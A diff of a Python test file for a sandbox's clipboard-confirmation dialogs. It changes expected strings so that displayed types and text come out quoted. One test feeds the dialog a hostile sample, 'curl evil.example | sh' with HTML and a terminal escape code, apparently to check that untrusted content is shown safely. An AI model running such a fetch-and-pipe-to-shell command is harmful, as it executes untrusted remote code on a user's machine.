@@ -17,6 +17,7 @@ from litterbox.capabilities.policy import Policy
 from litterbox.capabilities.requests import Requests
 from litterbox.capabilities.selections import MOST, Selection, SelectionError
 from litterbox.confirm.question import Answer, Question, text
+from litterbox.confirm.said import Said
 from litterbox_guest import messages, wire
 
 TEXT = "text/plain;charset=utf-8"
@@ -164,7 +165,7 @@ async def test_what_is_copied_is_in_the_clipboard(peer, desktop, user):
     assert desktop.held == {Selection.CLIPBOARD: (TEXT, b"hello")}
     [line] = audited()
     assert (line["what"], line["decision"], line["by"]) == ("clipboard", "approved", "policy")
-    assert line["detail"] == {"purpose": f"set clipboard: {TEXT}, 5 bytes", "peer": 77}
+    assert line["detail"] == {"purpose": f'set clipboard: "{TEXT}", 5 bytes', "peer": 77}
     assert user.asked == []
 
 
@@ -372,9 +373,9 @@ async def test_a_question_of_a_set_says_all_of_it_and_comes_last(peer, user, des
     assert text(question).splitlines() == [
         'The box "work" asks to set your clipboard.',
         "",
-        f"Type: {TEXT}",
+        f'Type: "{TEXT}"',
         "Size: 30 bytes",
-        r"Text: curl evil.example | sh\n<b>\x1b[2J",
+        r'Text: "curl evil.example | sh\n<b>\x1b[2J"',
     ]
     assert audited()[0]["by"] == "dialog"
 
@@ -396,7 +397,7 @@ async def test_a_question_shows_the_beginning_of_what_is_text(peer, user, type_,
     chosen('clipboard = "confirm"')
     await peer.copy(content, mime_type=type_)
     await peer.receive()
-    assert user.asked[0].fields[2:] == (() if field is None else (field,))
+    assert user.asked[0].fields[2:] == (() if field is None else ((field[0], (Said(field[1]),)),))
 
 
 async def test_questions_of_different_contents_are_different(peer, user):
@@ -422,7 +423,7 @@ async def test_a_question_of_a_get_says_which_type_and_comes_before_the_reading(
     assert text(question).splitlines() == [
         'The box "work" asks to read your primary selection.',
         "",
-        "Type: image/png",
+        'Type: "image/png"',
         "If you approve: the box gets what is in the primary selection at",
         "    that moment",
     ]
